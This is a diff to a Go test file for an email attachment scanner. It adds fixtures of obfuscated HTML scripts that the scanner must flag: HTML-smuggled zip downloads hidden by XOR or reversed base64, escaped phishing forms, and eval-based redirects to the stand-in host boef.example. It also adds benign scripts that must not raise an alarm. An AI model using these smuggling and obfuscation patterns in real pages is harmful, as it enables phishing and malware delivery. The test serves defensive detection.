@@ -3,6 +3,7 @@ package extract
 import (
 	"encoding/hex"
 	"fmt"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -72,6 +73,65 @@ func TestPagesThatActAreFound(t *testing.T) {
 		} {
 			if got := dangers(showMessage(t, m).report); got == "" {
 				t.Errorf("%s, %s: got nothing, want a program or that it acts", name, where)
+			}
+		}
+	}
+}
+
+// A short script that brings a reader a file or an address out of what stands in it acts, whatever the bytes are (C2.9a).
+func TestShortScriptsThatHideWhatTheyBringAreFound(t *testing.T) {
+	packed := string(zipOf("rekening.js", "var a = 1"))
+	changed := []byte(packed)
+	for i := range changed {
+		changed[i] ^= 77
+	}
+	turned := []byte(b64(packed))
+	slices.Reverse(turned)
+	escapes := numbers("<form action=\"https://boef.example/p\"><input name=p></form>", "%%%02x")
+	for name, script := range map[string]string{
+		"numbers that it changes":     "var k=[" + numbers(string(changed), "%d, ") + "];var u=new Uint8Array(k.map(function(x){return x^77}));a.href=URL.createObjectURL(new Blob([u]));a.download='r.zip';a.click()",
+		"a string that it turns":      "const k='" + string(turned) + "'.split('').reverse().join('');const w=Uint8Array.from(atob(k),c=>c.charCodeAt(0));location.href = URL.createObjectURL(new File([w],'r.zip'))",
+		"a file for an old browser":   "var s='" + string(turned) + "',b=atob(s.split('').reverse().join(''));navigator.msSaveBlob(new Blob([b]),'r.zip')",
+		"a page in escapes":           "document.write(unescape('" + escapes + "'))",
+		"a page in escapes of UTF-8":  "document.body.innerHTML = decodeURIComponent( \"" + escapes + "\" )",
+		"a page in base64":            "document.writeln(atob('" + b64("<script src=https://boef.example>") + "'))",
+		"code in base64":              "eval ( atob('" + b64("location='https://boef.example/x'") + "'))",
+		"code as a function":          "new Function(window.atob('" + b64("location='https://boef.example/x'") + "'))()",
+		"an address in base64":        "location.replace(atob('" + b64("https://boef.example/in") + "'))",
+		"an address, and who":         "window.location.href=atob('" + b64("https://boef.example/in") + "')+location.hash",
+		"an address in a variable":    "var u = atob('" + b64("https://boef.example/in") + "'); window.location = u",
+		"an address that is in parts": "location = atob('" + b64("https://boef")[:12] + "' + '" + b64("https://boef.example/in")[12:] + "')",
+	} {
+		m := attached("rooster.html", "text/html", []byte("<html><script>"+script+"</script>"))
+		if got := dangers(showMessage(t, m).report); got == "" {
+			t.Errorf("%s: got nothing, want that it acts", name)
+		}
+	}
+}
+
+// Scripts of saved pages, exercises and newsletters raise no alarm.
+func TestOrdinaryShortScriptsRaiseNoAlarm(t *testing.T) {
+	jpeg := b64("\xff\xd8\xff\xe0\x00\x10JFIF" + string(photo(600)))
+	export := "a.href=URL.createObjectURL(new Blob([new Uint8Array([239,187,191]),csv(d)]));a.download='lijst.csv';a.click()"
+	for name, script := range map[string]string{
+		"a saved page's statistics":  "document.write(unescape(\"%3Cscript src='\" + host + \"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));",
+		"a saved page's jQuery":      "window.jQuery || document.write(unescape('%3Cscript%20src=%22js/jquery-1.5.1.min.js%22%3E%3C/script%3E'))",
+		"an address of mail":         "location.href = atob('" + b64("mailto:info@school.example") + "')",
+		"an address of mail, hidden": "document.write(unescape('" + numbers("<a href='mailto:info@school.example'>mail</a>", "%%%02x") + "'))",
+		"a lesson on base64":         "document.write(atob('" + b64("Hallo wereld, dit is base64") + "'))",
+		"marks that it exports":      "var d=[" + numbers(strings.Repeat("\x37\x41\x4b\x55\x5a\x32", 40), "%d,") + "];" + export,
+		"years that it exports":      "var d=[" + strings.Repeat("2024,2025,2026,", 40) + "];" + export,
+		"a picture that it saves":    "var p='" + jpeg + "';a.href=URL.createObjectURL(new Blob([Uint8Array.from(atob(p))]));a.download='foto.jpg';a.click()",
+		"an exercise of GeoGebra":    "var p={\"appName\":\"classic\",\"ggbBase64\":\"" + b64(string(photo(900))) + "\"};var applet=new GGBApplet(p,'5.0');applet.inject('g');window.location.hash='x'",
+		"a library":                  strings.Repeat("function f(a){return eval(atob(a))+new Blob([new Uint8Array(a)])+URL.createObjectURL(a)+a.download}", 200) + "var l='" + b64(string(photo(900))) + "'",
+		"a link to decode":           "var q = decodeURIComponent(location.search.slice(1)); document.title = q; location.href = 'https://school.example/' + q",
+	} {
+		for where, m := range map[string]string{
+			"attached": attached("les.html", "text/html", []byte("<html><script>"+script+"</script>")),
+			"body":     "Content-Type: text/html\n\n<html><script>" + script + "</script>",
+		} {
+			if got := dangers(showMessage(t, m).report); got != "" {
+				t.Errorf("%s, %s: got %q, want nothing", name, where, got)
 			}
 		}
 	}
